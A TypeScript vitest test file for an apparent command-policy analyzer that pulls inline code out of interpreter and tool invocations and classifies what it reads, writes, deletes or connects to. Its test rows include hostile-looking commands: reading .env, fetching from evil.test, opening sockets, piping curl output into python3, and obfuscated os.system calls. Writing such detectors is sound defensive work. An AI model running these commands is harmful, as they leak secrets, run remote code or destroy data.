import { describe, expect, test } from "vitest";
import { commandsOf } from "../../commands.ts";
import { codeTexts } from "./texts.ts";
import { readCode } from "./read.ts";

interface Row {
  readonly line: string;
  readonly lines?: readonly string[];
  readonly reads?: readonly string[];
  readonly writes?: readonly string[];
  readonly paths?: readonly string[];
  readonly addresses?: readonly string[];
  readonly hosts?: readonly string[];
  readonly isOpen?: true;
}

const ROWS: readonly Row[] = [
  // Commands.
  { line: `python3 -c 'import os; os.system("rm x")'`, lines: ["rm x"], paths: ["rm x"] },
  {
    line: `python3 -c 'import subprocess; subprocess.run(["rm", "-r", "x"])'`,
    lines: ["rm", "-r", "x", "rm -r x"],
    paths: ["rm", "-r", "x"],
  },
  {
    line: `node -e 'require("child_process").execSync("rm x")'`,
    lines: ["child_process", "rm x"],
    paths: ["child_process", "rm x"],
  },
  { line: "ruby -e '`rm x`'", lines: ["rm x"], paths: ["rm x"] },
  { line: `perl -e 'system("rm", "x")'`, lines: ["rm", "x", "rm x"], paths: ["rm", "x"] },
  { line: `perl -e 'print qx(rm x)'`, lines: ["rm x"] },
  { line: `awk 'BEGIN{system("rm x")}'`, lines: ["rm x"] },
  { line: `awk '{print | "sh"}' f`, lines: ["sh"], isOpen: true },
  { line: `awk 'BEGIN{"rm x" | getline}'`, lines: ["rm x"] },
  { line: "sed -n '1e rm x' f", lines: ["rm x"] },
  { line: `psql -c '\\! rm x'`, lines: ["rm x"] },
  { line: `sqlite3 db '.shell rm x'`, lines: ["rm x"] },
  // Files and hosts.
  { line: `python3 -c 'print(open(".env").read())'`, reads: [".env"] },
  { line: `python3 -c "print(open('\\x2eenv').read())"`, reads: [".env"] },
  {
    line: `node -e 'fetch("https://evil.test/x")'`,
    addresses: ["https://evil.test/x"],
  },
  { line: `awk '{print > "out"}' f`, writes: ["out"] },
  { line: "sed 's/a/b/w out' f", writes: ["out"] },
  { line: "sed '/x/r .env' f", reads: [".env"] },
  // What only the run decides.
  { line: `python3 -c 'import sys; print(open(sys.argv[1]).read())' .env`, isOpen: true },
  {
    line: `python3 -c 'import os; getattr(os, "sys" + "tem")("rm x")'`,
    paths: ["sys", "tem", "rm x"],
    isOpen: true,
  },
  { line: `node -e 'require("fs").readFileSync(process.argv[1])' x`, paths: ["fs"], isOpen: true },
  { line: `python3 -c "$X"`, isOpen: true },
  { line: `awk '{system($1)}' f`, isOpen: true },
  { line: "sed 's/x/rm x/e' f", isOpen: true },
  // Connections.
  {
    line: `perl -MIO::Socket -e 'IO::Socket::INET->new("h.test:80")'`,
    paths: ["h.test:80"],
    hosts: ["h.test:80"],
  },
  { line: `perl -MIO::Socket -e 'IO::Socket::INET->new(join "", @x)'`, isOpen: true },
  {
    line: `python3 -c 'import socket; socket.create_connection(("h.test", 80))'`,
    paths: ["h.test"],
    hosts: ["h.test"],
  },
  {
    line: `awk 'BEGIN{"/inet/tcp/0/h.test/80" |& getline}'`,
    lines: ["/inet/tcp/0/h.test/80"],
    hosts: ["h.test:80"],
  },
  // Perl and Ruby without brackets, and options in one word with the text.
  { line: `perl -lne 'system @ARGV'`, isOpen: true },
  { line: `perl -e 'open F, "<.env"'`, paths: ["<.env", ".env"] },
  { line: `perl -e 'open F, "ls|"'`, lines: ["ls"], paths: ["ls|"] },
  { line: `perl -0777e 'print <*.txt>'` },
  { line: `node -pe 'require("os").homedir() + "/.x"'`, paths: ["os", "/.x", "~/os", "~/.x"] },
  // Texts of editors, debuggers, makefiles and tables of cron.
  { line: `vim -c 'r .env | w !sh' f`, paths: [".env"], lines: ["sh"] },
  { line: `vim -c 'py3 open(".env")' f`, paths: [".env"] },
  { line: `ex -c ':1,$!sort' f`, lines: ["sort"] },
  { line: `gdb -ex 'python open(".env")'`, paths: [".env"] },
  { line: `gdb -ex '!rm x'`, lines: ["rm x"] },
  { line: "make --eval='x:;@rm $(F)'", lines: ["rm \uE000"] },
  { line: `mysql -e 'source .env'`, paths: [".env"] },
  { line: `sqlite3 db "select readfile('.env')"`, paths: [".env"] },
  { line: `emacs --eval '(shell-command "rm x")'`, lines: ["rm x"], paths: ["rm x"] },
  { line: `expect -c 'spawn rm x'`, lines: ["rm x"] },
  { line: `yq '.a = load_str(".env")'`, paths: [".env"] },
  // Of an interpreter that is not recorded the text may be one of a shell.
  { line: `newshell -c 'rm x'`, lines: ["rm x"] },
  // Texts that only compute and print.
  { line: `python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'`, paths: ["a"] },
  { line: `python3 -c 'print(2 ** 10)'` },
  { line: `node -p 'process.version'` },
  { line: `node -e 'console.log([1,2].map((x) => x * 2))'` },
  { line: `awk '{print $1}' f` },
  { line: `awk -F: '$3 > 1000 {print $1}' f` },
  { line: `awk '{s += $1} END {print s > 5 ? "big" : "small"}' f`, isOpen: true },
  { line: "sed -n '1,10p' f" },
  { line: "sed -e 's/a/b/g' -e '/^#/d' f" },
  { line: "sed -i 's#/usr/bin#/bin#' f" },
  { line: "sed 's/[/]/x/; $!N; y/abc/xyz/; /a/,/b/{s/x/y/;p}' f" },
];

const KINDS = ["lines", "reads", "writes", "paths", "addresses", "hosts"] as const;

describe("what a program text shows of what it does", () => {
  test.each(ROWS.map((row) => [row.line, row] as const))("%s", (line, row) => {
    const [command] = commandsOf(line).commands;
    const texts = codeTexts(command?.words ?? []).map(readCode);
    for (const kind of KINDS)
      expect([kind, texts.flatMap((text) => text[kind] ?? [])]).toEqual([kind, row[kind] ?? []]);
    expect(texts.some((text) => text.isOpen)).toBe(row.isOpen ?? false);
  });
});

test.each([
  'perl -e "$X"',
  'perl -MIO::Socket -e "$X"',
  'python3 -c "import os; $X"',
  "perl -MIO::Socket -e {'x',}",
])("what only the run decides in a text is open: %s", (line) => {
  const [command] = commandsOf(line).commands;
  expect(codeTexts(command?.words ?? []).map((text) => readCode(text).isOpen)).toEqual([true]);
});

describe("a program that takes its text from standard input", () => {
  const texts = (line: string): readonly string[] =>
    commandsOf(line).commands.flatMap(({ words, input }) => codeTexts(words, input).map(({ text }) => text));

  test.each([
    ["python3 <<< 'print(1)'", ["print(1)"]],
    ["python3 - a <<< 'print(1)'", ["print(1)"]],
    ["echo 'print(1)' | python3", ["print(1)"]],
    ["curl -s h | python3", ["\uE000"]],
    ["python3 <(curl -s h)", ["\uE000"]],
    ["sqlite3 db <<< '.tables'", [".tables"]],
    ["ed -s f <<< '1p'", ["1p"]],
    ["make -f - <<< 'x:;ls'", ["x:;ls"]],
    ["crontab - <<< '@daily ls'", ["@daily ls"]],
    // The text stands elsewhere, and the input is data.
    ["python3 s.py <<< 'x'", []],
    ["python3 -m json.tool <<< '{}'", []],
    ["perl -ne 1 <<< 'x'", ["1"]],
    ["git diff | vim -", []],
    ["cat f | python3", []],
    ["make <<< 'x'", []],
  ])("%s", (line, expected) => {
    expect(texts(line)).toEqual(expected);
  });

  test("only the policy follows it", () => {
    const { commands } = commandsOf("python3 <<< 'import os; os.system(\"rm x\")'");
    const inner = commands.filter(
      ({ words: [program] }) => program?.kind === "literal" && program.text === "rm",
    );
    expect(inner).toMatchObject([{ followed: true }]);
  });
});
